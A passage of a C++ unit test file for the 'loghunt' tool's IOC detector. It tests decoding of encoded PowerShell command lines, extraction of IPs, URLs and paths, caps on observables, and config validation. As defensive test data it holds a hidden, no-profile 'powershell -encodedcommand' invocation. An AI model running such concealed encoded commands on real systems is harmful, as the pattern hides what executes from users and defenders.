  EXPECT_TRUE(found);
}

TEST(IocDetector, AlertsOnIndicatorsInAnEncodedCommandWithChainAndEntities) {
  IocDetectorOptions options;
  IocDetector detector(options);
  Event event;
  event.kind = EventKind::kProcessStart;
  event.host = "ws1";
  std::string cmd = "powershell.exe -nop -w hidden -encodedcommand " + Base64(Utf16le(kSeedPlain));
  event.process.command_line = cmd;
  std::vector<Alert> alerts;
  detector.Inspect(event, alerts);
  ASSERT_EQ(alerts.size(), 1u);
  const Alert& a = alerts[0];
  EXPECT_EQ(a.rule.id, "loghunt.ioc.encoded_command");
  std::set<std::string> types;
  for (const Observable& o : a.observables) {
    types.insert(o.type);
    EXPECT_EQ(o.decode_chain, "base64 > utf16le");
  }
  EXPECT_EQ(types, (std::set<std::string>{"ipv4", "url", "windows_path"}));
  std::set<std::string> entities;
  for (const Entity& e : a.entities) entities.insert(e.type);
  EXPECT_EQ(entities, (std::set<std::string>{"Host", "Process", "IpAddress", "Url", "File"}));

  // Plain indicators alone are not the signal.
  alerts.clear();
  std::string plain(kSeedPlain);
  event.process.command_line = plain;
  detector.Inspect(event, alerts);
  EXPECT_TRUE(alerts.empty());

  // Dropping the only IP class leaves url and path.
  options.drop_ip_classes = 1u << static_cast<unsigned>(IpClass::kPublic);
  IocDetector dropping(options);
  event.process.command_line = cmd;
  dropping.Inspect(event, alerts);
  ASSERT_EQ(alerts.size(), 1u);
  for (const Observable& o : alerts[0].observables) EXPECT_NE(o.type, "ipv4");
}

// 5 fragments of 1,000 distinct addresses each, and a sixth repeating the
// first's: 5,000 distinct indicators, of which the alert carries the first
// 1,000 and counts the rest (one 800 KB event gave an 11.5 MB alert of 50,000
// observables, and its repeat check was quadratic).
TEST(IocDetector, AnAlertCarriesAtMostMaxObservablesAndCountsTheRest) {
  auto addresses = [](int fragment, std::string_view prefix) {
    std::string text(prefix);
    for (int i = 0; i < 1000; ++i) {
      text += "11." + std::to_string(fragment) + "." + std::to_string(i / 256) + "." +
              std::to_string(i % 256) + " ";
    }
    return text;
  };
  std::string cmd = "powershell -enc";
  for (int f = 0; f < 5; ++f) cmd += " " + Base64(addresses(f, ""));
  cmd += " " + Base64(addresses(0, "again "));
  Event event;
  event.kind = EventKind::kProcessStart;
  event.process.command_line = cmd;
  IocDetector detector;
  std::vector<Alert> alerts;
  detector.Inspect(event, alerts);
  ASSERT_EQ(alerts.size(), 1u);
  const Alert& a = alerts[0];
  EXPECT_EQ(a.observables.size(), 1000u);
  std::set<std::string> values;
  for (const Observable& o : a.observables) values.insert(o.value);
  EXPECT_EQ(values.size(), 1000u);
  EXPECT_TRUE(values.count("11.0.0.0"));  // the first found are kept
  size_t addresses_entities = 0;
  const Entity* limit = nullptr;
  for (const Entity& e : a.entities) {
    addresses_entities += e.type == "IpAddress";
    if (e.type == "ObservableLimit") limit = &e;
  }
  EXPECT_EQ(addresses_entities, 1000u);
  ASSERT_NE(limit, nullptr);
  EXPECT_EQ(limit->properties, (std::vector<std::pair<std::string, std::string>>{
                                   {"Found", "5000"}, {"Reported", "1000"}, {"Omitted", "4000"}}));
  EXPECT_NE(a.summary.find("(+4995 more)"), std::string::npos) << a.summary;
}

TEST(DistinctIocs, KeepsTheFirstOfEachTypeAndValue) {
  DistinctIocs distinct;
  distinct.Reset(2);  // grows past the room asked for
  std::vector<std::string> values;
  for (int i = 0; i < 3000; ++i) values.push_back("v" + std::to_string(i % 1000));
  size_t first = 0;
  for (const std::string& v : values) first += distinct.Insert({IocType::kDns, v});
  EXPECT_EQ(first, 1000u);
  EXPECT_TRUE(distinct.Insert({IocType::kUrl, values[0]}));  // same text, other type
  distinct.Reset(0);
  EXPECT_TRUE(distinct.Insert({IocType::kDns, values[0]}));
}

TEST(IocConfig, DetectorsIocSectionIsReadValidatedAndWired) {
  Config config;
  std::vector<std::string> errors;
  ASSERT_TRUE(
      LoadConfigText("detectors:\n  ioc:\n    enabled: true\n    drop_ip_classes: [private, "
                     "loopback]\n    max_decode_depth: 5\n    decode_byte_budget: 4096\n",
                     "t.yaml", &config, &errors))
      << (errors.empty() ? "" : errors[0]);
  EXPECT_EQ(config.ioc.max_decode_depth, 5);
  EXPECT_EQ(config.ioc.decode_byte_budget, 4096u);
  EXPECT_EQ(config.ioc.drop_ip_classes, (std::vector<std::string>{"private", "loopback"}));
  bool wired = false;
  for (const auto& d : MakeDetectors(config)) wired = wired || d->name() == "ioc";
  EXPECT_TRUE(wired);

  EXPECT_FALSE(
      LoadConfigText("detectors:\n  ioc:\n    drop_ip_classes: [intranet]\n    "
                     "max_decode_depth: 0\n",
                     "t.yaml", &config, &errors));
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[1].rfind("t.yaml:3: detectors.ioc.drop_ip_classes[0]: unknown IP class", 0), 0u)
      << errors[1];
  EXPECT_EQ(
      errors[0].rfind("t.yaml:4: detectors.ioc.max_decode_depth: must be between 1 and 64", 0), 0u)
      << errors[0];

  ASSERT_TRUE(
      LoadConfigText("detectors:\n  ioc:\n    enabled: false\n", "t.yaml", &config, &errors));
  for (const auto& d : MakeDetectors(config)) EXPECT_NE(d->name(), "ioc");
}

}  // namespace
}  // namespace loghunt
